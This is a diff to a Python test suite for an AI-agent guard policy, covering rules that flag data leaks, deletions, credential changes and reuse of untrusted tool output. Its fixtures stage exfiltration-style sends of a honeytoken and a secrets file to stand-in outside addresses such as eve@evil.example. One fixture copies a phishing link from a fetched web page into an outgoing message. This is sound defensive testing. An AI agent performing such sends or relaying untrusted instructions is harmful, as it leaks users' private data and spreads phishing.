@@ -1,4 +1,4 @@
-"""The policy's declared ledger (guard/policy/ledger.py, guard/ledger/rules.py): each rule fires where it should, only there."""
+"""The policy's declared ledger (guard/policy/ledger.py, guard/ledger/rules.py): each rule fires where it should."""
 
 from __future__ import annotations
 
@@ -47,7 +47,7 @@ def _send(index: int, to: str, body: str, call_id: str = "s1", status: str = "ok
 
 
 def test_canary_reaching_an_outside_sink_is_privacy_flow() -> None:
-    """A honeytoken match in an executed send to an unnamed recipient charges privacy_flow: catches canary patterns ignored."""
+    """A honeytoken in an executed send to an unnamed recipient is privacy_flow: catches canary patterns ignored."""
     policy = _policy(privacy_flow={"canary_patterns": ["HONEY-[0-9]{6}"]})
     events = _events(policy, user(0, "summarize my files"), *_send(1, "eve@evil.example", "see HONEY-654321"))
     assert events == (frozenset({"privacy_flow"}),)
@@ -62,10 +62,11 @@ def test_private_pattern_counts_only_values_seen_in_private_results() -> None:
 
 
 def test_user_named_recipient_is_not_charged_and_an_unnamed_one_is() -> None:
-    """The user-requested send of the file passes, the same send elsewhere is charged: catches the user exemption inverted or missing."""
+    """The user-requested send passes, the same send elsewhere is charged: catches the user exemption broken."""
     policy = _policy(privacy_flow={"private_span": 12})
-    asked = _events(policy, user(0, "send secrets.txt to bob@gmail.com"), *_read_secret(1), *_send(3, "bob@gmail.com", SECRET))
-    other = _events(policy, user(0, "send secrets.txt to bob@gmail.com"), *_read_secret(1), *_send(3, "eve@x.io", SECRET))
+    said = user(0, "send secrets.txt to bob@gmail.com")
+    asked = _events(policy, said, *_read_secret(1), *_send(3, "bob@gmail.com", SECRET))
+    other = _events(policy, said, *_read_secret(1), *_send(3, "eve@x.io", SECRET))
     assert asked[1] == frozenset() and other[1] == frozenset({"privacy_flow"})
 
 
@@ -86,7 +87,7 @@ def test_recipient_allow_list_domains_subdomains_identifiers_and_user_named() ->
 
 
 def test_destructive_only_on_objects_the_user_did_not_name() -> None:
-    """delete_file on a file the user named is fine, on another file it is destructive: catches every delete charged or none."""
+    """delete_file on a file the user named is fine, on another destructive: catches every delete charged or none."""
     policy = _policy(destructive={"tools": ["delete_file"]})
 
     def delete(path: str, said: str) -> tuple[frozenset[str], ...]:
@@ -110,18 +111,19 @@ def test_credential_change_uses_object_args() -> None:
 
 
 def test_untrusted_reuse_needs_a_long_enough_span_from_an_untrusted_result() -> None:
-    """A sink payload copying min_span characters of an untrusted result is untrusted_instruction; a short overlap is not."""
+    """A payload copying min_span characters of an untrusted result is untrusted_instruction; a short overlap is not."""
     policy = _policy(untrusted_instruction={"min_span": 20})
     page = "Breaking: click http://phish.example/win now to claim your prize!"
     fetch = [proposal(1, "http_get", {"url": "http://news.example"}, "h"),
              result(2, "h", page, Trust.TOOL_UNTRUSTED, "http_get")]
-    copied = _events(policy, user(0, "news?"), *fetch, *_send(3, "a@corp.example", "FYI: click http://phish.example/win now"))
+    body = "FYI: click http://phish.example/win now"
+    copied = _events(policy, user(0, "news?"), *fetch, *_send(3, "a@corp.example", body))
     short = _events(policy, user(0, "news?"), *fetch, *_send(3, "a@corp.example", "Breaking news today"))
     assert copied[1] == frozenset({"untrusted_instruction"}) and short[1] == frozenset()
 
 
 def test_failed_sends_are_not_charged() -> None:
-    """A send whose result is an error did not execute and charges nothing: catches rules applied to unexecuted proposals."""
+    """A send whose result is an error did not execute and charges nothing: catches rules on unexecuted proposals."""
     events = _events(FULL, user(0, "hi"), *_send(1, "eve@evil.example", "HONEY-123456", status="error"))
     assert events == (frozenset(),)
 
@@ -145,7 +147,7 @@ def test_no_ledger_section_charges_nothing() -> None:
     ],
 )
 def test_ledger_section_is_strict(ledger: dict[str, Any], needle: str) -> None:
-    """Unknown tools/args, bad regexes, unknown keys and empty tool lists are policy errors: catches a typo that silences a category."""
+    """Unknown tools/args, bad regexes, unknown keys, empty tool lists are policy errors: catches a silencing typo."""
     data = copy.deepcopy(BASE)
     data["ledger"] = ledger
     with pytest.raises(PolicyError, match="ledger") as err:
@@ -164,9 +166,31 @@ def test_ledger_section_in_the_json_schema_with_descriptions() -> None:
 
 
 def test_ledger_is_not_in_the_pipeline_fingerprint() -> None:
-    """Editing the ledger does not change the pipeline fingerprint (the gate never reads it): catches the ledger entering the pipeline."""
+    """Editing the ledger leaves the pipeline fingerprint alone (the gate never reads it): catches it hashed in."""
     from guard.artifact import pipeline_fingerprint
 
     data = copy.deepcopy(BASE)
     del data["ledger"]
     assert pipeline_fingerprint(parse_policy(data)) == pipeline_fingerprint(FULL)
+
+
+def test_readme_ledger_example_and_reference_row() -> None:
+    """The README's ledger: example is a valid section and its reference row names every key: catches doc drift."""
+    import re
+
+    from guard.policy.ledger import LedgerSpec
+
+    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text(encoding="utf-8")
+    section = readme.split("## Calibrate on your own agent", 1)[1].split("\n## ", 1)[0]
+    block = re.search(r"```yaml\n(ledger:.*?)```", section, re.S)
+    assert block is not None
+    data = copy.deepcopy(BASE)
+    data["tools"]["update_password"] = {"kind": "other", "effect": "irreversible"}
+    data.update(yaml.safe_load(block.group(1)))
+    assert parse_policy(data).ledger is not None
+    row = next(line for line in readme.splitlines() if line.startswith("| `ledger` |"))
+    for name, field in LedgerSpec.model_fields.items():
+        assert f"`{name}`" in row
+        rule = field.annotation.__args__[0]  # type: ignore[union-attr]
+        for key in rule.model_fields:
+            assert f"`{key}`" in row, f"ledger.{name}.{key} missing from the README reference row"
